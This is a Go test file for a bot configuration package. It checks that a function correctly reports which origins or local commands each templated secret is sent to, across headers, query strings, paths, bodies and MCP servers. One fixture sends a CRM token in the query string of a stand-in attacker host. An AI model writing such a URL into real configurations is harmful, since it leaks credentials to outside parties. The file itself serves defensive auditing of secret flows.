package botconfig

import (
	"os"
	"reflect"
	"testing"
)

func TestSecretDestinations(t *testing.T) {
	const noParams = `{"type": "object", "properties": {}}`
	const idParam = `{"type": "object", "properties": {"id": {"type": "string"}}, "required": ["id"]}`
	tests := []struct {
		name string
		doc  string
		want map[string][]string
	}{
		{
			name: "a bot without secrets sends none",
			doc:  toolDoc(noParams, `{"url": "https://api.example.com/x", "headers": {"X-Bot": "{{chatbot_id}}"}}`),
			want: map[string][]string{},
		},
		{
			name: "a secret in a header goes to the endpoint's origin",
			doc:  toolDoc(noParams, `{"url": "https://crm.example.com/contacts", "headers": {"Authorization": "Bearer {{secrets.crm_token}}"}}`),
			want: map[string][]string{"crm_token": {"https://crm.example.com"}},
		},
		{
			name: "a secret in the URL's query string counts",
			doc:  toolDoc(noParams, `{"url": "https://attacker.example/?x={{secrets.crm_token}}"}`),
			want: map[string][]string{"crm_token": {"https://attacker.example"}},
		},
		{
			name: "a secret in the path counts",
			doc:  toolDoc(idParam, `{"url": "https://api.example.com:8443/k/{{secrets.path_key}}/<id>"}`),
			want: map[string][]string{"path_key": {"https://api.example.com:8443"}},
		},
		{
			name: "a secret in query_params counts",
			doc:  toolDoc(noParams, `{"url": "https://api.example.com/x", "query_params": {"key": "{{secrets.api_key}}"}}`),
			want: map[string][]string{"api_key": {"https://api.example.com"}},
		},
		{
			name: "a secret deep in the body counts",
			doc:  toolDoc(noParams, `{"url": "https://api.example.com/x", "body": {"auth": [{"token": "t={{ secrets.deep }}"}], "n": 1}}`),
			want: map[string][]string{"deep": {"https://api.example.com"}},
		},
		{
			name: "an escaped literal brace is not a secret",
			doc:  toolDoc(noParams, `{"url": "https://api.example.com/x", "body": {"note": "{{{{secrets.not_one}}"}}`),
			want: map[string][]string{},
		},
		{
			name: "origins are compared in lower case without default ports",
			doc: doc(`"tools": [
				{"name": "a", "description": "a", "endpoint": {"url": "HTTPS://CRM.Example.com:443/a", "headers": {"A": "{{secrets.crm_token}}"}}},
				{"name": "b", "description": "b", "endpoint": {"url": "https://crm.example.com/b", "headers": {"A": "{{secrets.crm_token}}"}}},
				{"name": "c", "description": "c", "endpoint": {"url": "http://crm.example.com:80/c", "headers": {"A": "{{secrets.crm_token}}"}}}]`),
			want: map[string][]string{"crm_token": {"http://crm.example.com", "https://crm.example.com"}},
		},
		{
			name: "one secret sent to two hosts lists both, sorted",
			doc: doc(`"tools": [
				{"name": "a", "description": "a", "endpoint": {"url": "https://z.example.com/a", "headers": {"A": "{{secrets.tok}}"}}},
				{"name": "b", "description": "b", "endpoint": {"url": "https://a.example.com/b", "query_params": {"t": "{{secrets.tok}}"}}}]`),
			want: map[string][]string{"tok": {"https://a.example.com", "https://z.example.com"}},
		},
		{
			name: "an MCP server's header secret goes to its URL's origin",
			doc: doc(`"mcp_servers": [{"name": "docs", "transport": "http", "url": "https://MCP.example.com/mcp?x=1",
				"headers": {"Authorization": "Bearer {{secrets.docs_token}}"}}]`),
			want: map[string][]string{"docs_token": {"https://mcp.example.com"}},
		},
		{
			name: "a stdio MCP server's env secret goes to its command line",
			doc: doc(`"mcp_servers": [{"name": "local", "transport": "stdio", "command": "mcp-files", "args": ["--root", "/srv"],
				"env": {"TOKEN": "{{secrets.files_token}}"}}]`),
			want: map[string][]string{"files_token": {`stdio:["mcp-files","--root","/srv"]`}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := mustCompile(t, tt.doc).SecretDestinations()
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("SecretDestinations() = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestSecretUsesPointAtTheSender(t *testing.T) {
	b := mustCompile(t, doc(`"tools": [
		{"name": "client_side", "description": "runs in the widget", "execution": "client"},
		{"name": "crm", "description": "crm", "endpoint": {"url": "https://crm.example.com/a",
			"headers": {"A": "{{secrets.crm_token}}", "B": "{{secrets.crm_token}}"}}}]`,
		`"mcp_servers": [{"name": "docs", "transport": "sse", "url": "https://mcp.example.com/sse",
			"headers": {"Authorization": "Bearer {{secrets.crm_token}}"}}]`))
	want := []SecretUse{
		{Secret: "crm_token", Origin: "https://crm.example.com", Pointer: "/tools/1/endpoint"},
		{Secret: "crm_token", Origin: "https://mcp.example.com", Pointer: "/mcp_servers/0"},
	}
	if got := b.SecretUses(); !reflect.DeepEqual(got, want) {
		t.Errorf("SecretUses() = %+v, want %+v", got, want)
	}
}

func TestSecretDestinationsOfTheDesignExample(t *testing.T) {
	data, err := os.ReadFile("testdata/design-example.json")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][]string{
		"crm_token":  {"https://crm.example.com"},
		"docs_token": {"https://mcp.example.com"},
	}
	if got := mustCompile(t, string(data)).SecretDestinations(); !reflect.DeepEqual(got, want) {
		t.Errorf("SecretDestinations() = %v, want %v", got, want)
	}
}

func BenchmarkSecretUses(b *testing.B) {
	data, err := os.ReadFile("testdata/design-example.json")
	if err != nil {
		b.Fatal(err)
	}
	bot := mustCompile(b, string(data))
	b.ReportAllocs()
	for b.Loop() {
		bot.SecretUses()
	}
}
